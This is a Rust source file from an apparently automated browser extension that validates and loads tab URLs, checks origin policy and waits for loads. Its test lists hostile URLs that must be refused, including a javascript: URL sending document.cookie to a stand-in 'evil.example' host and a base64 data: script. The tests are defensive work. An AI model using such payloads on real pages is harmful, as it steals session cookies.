//! Loading a URL in a tab and waiting for a tab's top-frame loads: what navigation (`tabs`) and
//! the actions that wait for the navigation they start (`act`) share.
//!
//! Every URL a tab is pointed at or opened with passes [`check_navigable`] first: `load_url`
//! calls it, and so does opening a tab or window (`tabs::create`).
//!
//! Loads are seen through `activity`, which counts every top-frame load a tab starts and the
//! state each reached; a caller notes the count (`activity::load_mark`) before it acts and
//! compares afterwards.

use serde_json::json;
use tabwire_protocol::tabs::check_navigable_url;
use tabwire_protocol::{ErrorCode, OpError, TabId, WaitUntil};

use tabwire_protocol::policy::Need;

use crate::activity;
use crate::checkpoint::Checkpoint;
use crate::chrome;
use crate::chrome_tabs::tab_error;
use crate::policy;
use crate::timer::{Either, select, sleep};

/// How long after `chrome.tabs.update` (or a history step, a reload) a navigation must have
/// started: Chrome reports it at once; a step within one document never starts one.
pub const LOAD_START_MS: f64 = 1000.0;

/// Refuses, with `INVALID_ARGUMENT`, a URL that no tab may be pointed at: anything but
/// `http(s)://`, `file://` and `about:blank` (the protocol's rule, the one the hub applies).
///
/// The hub has checked the URL already; checking again here is what keeps a hub that is not
/// the one the user trusts (or a buggy one) from running `javascript:` in a logged-in page,
/// opening a `data:` page, or reaching browser and extension pages through this extension.
///
/// The policy is checked here too: a URL on an origin either owner denies is not loaded
/// (`ORIGIN_BLOCKED`).
pub fn check_navigable(url: &str) -> Result<(), OpError> {
    check_navigable_url(url).map_err(|refused| {
        OpError::new(
            ErrorCode::InvalidArgument,
            format!("The extension will not open this URL: {refused}."),
        )
    })?;
    // Loading is never a question for a person: `ask` is about actions on the page.
    policy::check_url(url, Need::Load).map(|_| ())
}

/// Where a load ended, judged by the policy: a load that ended on an origin either owner denies
/// (a redirect, a link, history) stops there with `ORIGIN_BLOCKED`, and nothing of the page is
/// read.
pub async fn check_arrival(tab: TabId) -> Result<(), OpError> {
    if policy::allows_everything() {
        return Ok(());
    }
    let url = policy::frame_url(tab, 0).await?;
    policy::check_url(&url, Need::Load)
        .map(|_| ())
        .map_err(|error| {
            OpError::new(
                error.code,
                format!(
                    "The tab's load ended on a page it may not use. {}",
                    error.message
                ),
            )
            .action_may_have_occurred()
        })
}

/// Points the tab at `url` (`chrome.tabs.update`) once [`check_navigable`] accepts it, passing
/// the checkpoint just before.
pub async fn load_url(tab: TabId, url: &str, checkpoint: &Checkpoint) -> Result<(), OpError> {
    check_navigable(url)?;
    let properties = chrome::to_js(&json!({ "url": url })).map_err(OpError::from)?;
    // Only the tab's debugger says that an address turned into a download (downloads.rs):
    // without it, a navigation to an attachment waits for a load that never comes. A page
    // Chrome lets no extension debug (chrome://…) is left without; its navigation is plain.
    if let Err(error) = crate::debugger::ensure_attached(tab).await {
        chrome::log!(
            "tab {tab}: navigating without the debugger: {}",
            error.message
        );
    }
    checkpoint.check()?;
    chrome::call(chrome::tabs_update(tab, &properties))
        .await
        .map(|_| ())
        .map_err(|failure| refused(tab, url, &failure.message))
}

fn refused(tab: TabId, url: &str, message: &str) -> OpError {
    if message.to_ascii_lowercase().contains("no tab with id") {
        return tab_error(tab, message);
    }
    OpError::new(
        ErrorCode::NavigationFailed,
        format!("Chrome refused to load {url}: {message}"),
    )
}

/// Waits for the tab's latest load to reach `until`, stopping a little before the deadline
/// with `NAVIGATION_TIMEOUT` (the input that started the load has been sent).
pub async fn loaded(tab: TabId, until: WaitUntil, checkpoint: &Checkpoint) -> Result<(), OpError> {
    let budget = checkpoint.budget_ms().max(0.0);
    match select(activity::wait_load(tab, until), sleep(budget)).await {
        Either::Left(result) => {
            result?;
            check_arrival(tab).await
        }
        Either::Right(()) => Err(OpError::new(
            ErrorCode::NavigationTimeout,
            format!(
                "The page did not reach {} within the deadline; it may still be loading. Take \
                 a snapshot to see where the tab is before retrying.",
                match until {
                    WaitUntil::Domcontentloaded => "DOMContentLoaded",
                    WaitUntil::Complete => "the end of its load",
                }
            ),
        )
        .action_may_have_occurred()),
    }
}

/// Waits for a load started since `mark` (within [`LOAD_START_MS`]) to reach `until`; a step
/// that started none (a fragment change, history within one document) is done at once.
pub async fn settle(
    tab: TabId,
    mark: u64,
    until: WaitUntil,
    checkpoint: &Checkpoint,
) -> Result<(), OpError> {
    if activity::wait_load_start(tab, mark, LOAD_START_MS).await {
        loaded(tab, until, checkpoint).await?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_web_pages_files_and_the_blank_page_are_opened() {
        for ok in [
            "https://example.com/",
            "http://127.0.0.1:8080/a",
            "file:///tmp/a.html",
            "about:blank",
        ] {
            assert_eq!(check_navigable(ok), Ok(()), "{ok}");
        }
        // What a hub that is not the one the user trusts might send, each one the hub itself
        // would refuse.
        for hostile in [
            "javascript:fetch('https://evil.example/?c='+document.cookie)",
            "JAVASCRIPT:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "chrome://settings/passwords",
            "chrome-extension://hjpjigandemmiglamagndeppmlncdhag/popup.html",
            "view-source:https://bank.example/",
            "about:settings",
            "\u{1}javascript:alert(1)",
        ] {
            let refused = check_navigable(hostile).unwrap_err();
            assert_eq!(refused.code, ErrorCode::InvalidArgument, "{hostile:?}");
            assert!(
                refused
                    .message
                    .starts_with("The extension will not open this URL: url must be an absolute"),
                "{}",
                refused.message
            );
        }
    }
}
